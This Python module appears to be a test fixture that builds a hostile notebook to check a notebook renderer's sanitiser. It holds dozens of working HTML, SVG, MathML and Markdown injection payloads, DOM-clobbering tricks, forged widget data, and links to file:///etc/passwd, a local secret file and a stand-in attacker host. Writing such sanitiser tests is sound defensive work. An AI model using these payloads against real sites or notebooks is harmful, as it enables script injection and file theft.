"""Payloads of a hostile notebook: each writes its name to the console if it runs, or requests it.

JS stands for a program that writes the name, URL for a hostile address, SECRET for a file beside the notebook,
FORGED for widgets of the attacker.
"""

import json
from base64 import b64encode
from typing import Any, Final
from zlib import compress

HOST: Final = "http://stranger.test/"

TEXTS: Final = {
    "script": "<script>JS</script>",
    "script src": '<script src="URL"></script>',
    "module": '<script type="module">JS</script>',
    "our data": '<script type="application/json" id="matcha-page">FORGED</script>',
    "our data in a box": '<div id="matcha-page" hidden>FORGED</div>',
    "our variable": '<a id="matchaWidgets"></a><form id="matchaWidgets"><input name="default"></form>',
    "our place": '<div data-matcha="0">x</div><div data-matcha="99">y</div>',
    "image error": '<img src=x onerror="JS">',
    "image load": '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="JS">',
    "handlers": '<p onmouseover="JS" onclick="JS" onfocus="JS" tabindex=0>touch</p>',
    "autofocus": '<input autofocus onfocus="JS">',
    "toggle": '<details open ontoggle="JS"><summary>s</summary>d</details>',
    "animation": '<p style="animation: spin 1ms" onanimationstart="JS">a</p>',
    "srcdoc": '<iframe srcdoc="<script>JS</script>"></iframe>',
    "frame": '<iframe src="URL"></iframe>',
    "frame of script": '<iframe src="javascript:JS"></iframe>',
    "frame of a file": '<iframe src="SECRET"></iframe>',
    "script link": '<a href="javascript:JS">press</a>',
    "script link, broken up": '<a href=" java&#10;script&colon;JS">press</a>',
    "data link": '<a href="data:text/html,<script>JS</script>">press</a>',
    "share link": '<a href="//stranger.test/x">press</a><a href="\\\\stranger.test\\x">press</a>',
    "share link, broken up": '<a href="/&#9;/stranger.test/x">press</a><a href=" //stranger.test/y">press</a>',
    "file link": '<a href="file:///etc/passwd" target="_top">press</a>',
    "named window": '<a href="javascript:JS" target="x" ping="URL">press</a>',
    "area": '<map name="m"><area shape="default" href="javascript:JS"></map><img usemap="#m" alt="a">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=URL">',
    "meta refresh to a script": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>JS</script>">',
    "meta policy": """<meta http-equiv="Content-Security-Policy" content="style-src 'none'">""",
    "base": '<base href="URL"><base target="_blank">',
    "form": '<form action="URL"><button>send</button><input type="submit" formaction="javascript:JS"></form>',
    "clobbered document": '<form name="head"></form><img name="createElement"><img name="querySelectorAll" id="body">',
    "clobbered window": '<a id="JSON"></a><a id="customElements" name="x"></a><b id="mt-M">no tea</b>',
    "svg load": '<svg onload="JS"><script>JS</script></svg>',
    "svg animate": '<svg><a><animate attributeName="href" values="javascript:JS"/><text y="9">press</text></a></svg>',
    "svg set": '<svg><image href="URL"/><set attributeName="onclick" to="JS"/><use href="URL#x"/></svg>',
    "svg foreign": '<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>',
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
    "style import": '<style>@import "URL"; p { background: url(URL) }</style>',
    "style attribute": '<p style="background: url(URL); position: fixed; inset: 0">covers all</p>',
    "style of a word": '<p style="list-style-image: \\75rl(URL); color: red">red</p>',
    "covering link": '<a class="jp-Dialog" style="position: fixed; inset: 0; z-index: 99" href="#x">covers all</a>',
    "style sheet": '<link rel="stylesheet" href="URL">',
    "fetched beforehand": '<link rel="prefetch" href="URL"><link rel="dns-prefetch" href="//stranger.test">',
    "object": '<object data="URL"></object><object data="data:text/html,<script>JS</script>"></object>',
    "embed": '<embed src="URL"><embed src="javascript:JS">',
    "media": '<video poster="URL"><source src="URL" onerror="JS"></video><audio src="URL"></audio>',
    "picture set": '<picture><source srcset="URL"><img srcset="URL 2x" src="URL"></picture>',
    "template": '<template shadowrootmode="open"><img src=x onerror="JS"></template>',
    "custom element": '<x-card is="y" onclick="JS">c</x-card><button popovertarget="z" onclick="JS">b</button>',
    "frameset": '<frameset onload="JS"><frame src="javascript:JS"></frameset>',
    "body": '<body onload="JS" onpageshow="JS" background="URL">',
    "end of all": '</div></main></body></html><script>JS</script><img src=x onerror="JS">',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    "math style": '<math><mi><mglyph><style><img src=x onerror="JS"></style></mglyph></mi></math>',
    "math link": '<math href="javascript:JS"><mi xlink:href="javascript:JS">press</mi></math>',
    "title in svg": '<svg><title><style><img title="</style><img src=x onerror=JS>"></style></title></svg>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>',
    "text area": '<textarea><img title="</textarea><img src=x onerror=JS>"></textarea>',
    "plain text": '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>',
    "no embed": '<noembed><p title="</noembed><script>JS</script>"></noembed>',
    "comment": '<!--><img src=x onerror="JS">--><!--[if IE]><script>JS</script><![endif]-->',
    "quoted xml": "<![CDATA[<script>JS</script>]]><?php <script>JS</script> ?>",
    "nested tables": '<table><form><tr><a><table><img src=x onerror="JS"></table></a></tr></form></table>',
    "attribute breaking": """<img alt='"><script>JS</script>' title='" onmouseover="JS' src="x">""",
    "file of text": '<img src="SECRET" alt="a">',
}  # fmt: skip
"""HTML, for a Markdown cell as for an output."""

MARKDOWN: Final = {
    "markdown link": "[press](javascript:JS) [press](<java\tscript:JS>) [press][r]\n\n[r]: javascript:JS",
    "markdown link with a title": "[press](# '\" onmouseover=\"JS') <javascript:JS>",
    "markdown picture": '![a](x"onerror="JS) !["><script>JS</script>](y) ![p](URL)',
    "markdown file": "![a](SECRET) ![b](../SECRET) ![c](linked.png) ![d](poem.png)",
    "markdown heading": '# A <img src=x onerror="JS"> heading <script>JS</script>',
    "fence": '```html"><script>JS</script>\n<script>JS</script>\n```',
    "mermaid": '```mermaid\n</pre><img src=x onerror="JS">\n```',
    "mathematics": '$x<script>JS</script>$ and $$<img src=x onerror="JS">$$ \\begin{a"><script>JS</script>}\\end{a}',
    "table of markdown": '| a |\n|---|\n| <img src=x onerror="JS"> |',
}  # fmt: skip

SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS</script><image href="URL"/></svg>'

OUTPUTS: Final[dict[str, dict[str, Any]]] = {
    "an svg": {"image/svg+xml": SVG},
    "a mermaid": {"text/vnd.mermaid": '</pre><img src=x onerror="JS"><script>JS</script>'},
    "a formula": {"text/latex": "$</div><script>JS</script>$"},
    "a false picture": {"image/png": 'x" onerror="JS'},
    "a text as a picture": {"image/png": b64encode(b"<script>JS</script>").decode()},
    "a text": {"text/plain": '</pre><img src=x onerror="JS">\x1b[31m"><script>JS</script>'},
    "a script": {"application/javascript": "JS", "text/plain": "JS"},
    "a widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>JS</script>"},
        "text/plain": "W()",
    },
    "a markdown": {"text/markdown": '[press](javascript:JS) <img src=x onerror="JS">'},
    "widgets of ours": {
        "application/vnd.matcha-widget.mounts+json": {"m": {"picture": "<script>JS</script>"}},
        "text/html": '<div data-matcha="0"><script>JS</script></div>',
    },
}

FORGED: Final = json.dumps({
    "modules": [b64encode(compress(b"console.log('forged')\nexport default {}\0")).decode()], "parts": [],
    "widgets": [{"module": 0, "traits": {}, "answers": {}}],
})  # fmt: skip


def payload(payload: Any, name: str) -> Any:
    """A payload with its name filled in."""
    text = json.dumps(payload)
    address = HOST + name.replace(" ", "-")
    for sign, meant in (("FORGED", FORGED), ("JS", "console.log('NAME')"), ("URL", address), ("NAME", name)):
        text = text.replace(sign, json.dumps(meant)[1:-1])
    return json.loads(text.replace("SECRET", "secret.txt"))


def in_cells() -> dict[str, list[dict[str, Any]]]:
    """Cells with each payload by its name: HTML and Markdown as text and as outputs, the rest as outputs."""
    cells = {name: [markdown_cell(text), output_cell({"text/html": text})] for name, text in TEXTS.items()}
    cells |= {name: [markdown_cell(text), output_cell({"text/markdown": text})] for name, text in MARKDOWN.items()}
    cells |= {name: [output_cell(forms)] for name, forms in OUTPUTS.items()}
    error = {"output_type": "error", "ename": "E", "evalue": "", "traceback": [TEXTS["end of all"]]}
    cells |= {
        "what is printed": [code_cell({"output_type": "stream", "name": "stderr", "text": TEXTS["end of all"]})],
        "an error": [code_cell(error)],
        "a width": [output_cell({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": "1 onerror=JS src=URL"}})],
        "tags": [markdown_cell("a") | {"metadata": {"tags": ['"><img/src=x/onerror=JS>']}}],
        "a source": [code_cell() | {"source": f"%%html\n{TEXTS['end of all']}"}],
        "attachment": [markdown_cell("![a](attachment:a.svg) ![b](attachment:b.html)")],
        "an attachment's form": [
            markdown_cell("![a](attachment:a)") | {"attachments": {"a": {'"><script>JS</script>': "JS"}}}
        ],
        "a raw cell": [{"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": TEXTS["script"]}],
    }
    return {name: payload(cells, name) for name, cells in cells.items()}


def markdown_cell(text: str) -> dict[str, Any]:
    """A cell of Markdown."""
    attached = {"a.svg": {"image/svg+xml": b64encode(SVG.encode()).decode()}, "b.html": {"text/html": "PGI+"}}
    return {"cell_type": "markdown", "metadata": {}, "source": text, "attachments": attached}


def output_cell(forms: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    """A cell with this output."""
    return code_cell({"output_type": "display_data", "metadata": metadata or {}, "data": forms})


def code_cell(*outputs: dict[str, Any]) -> dict[str, Any]:
    """A code cell that has been run."""
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [*outputs], "source": ""}
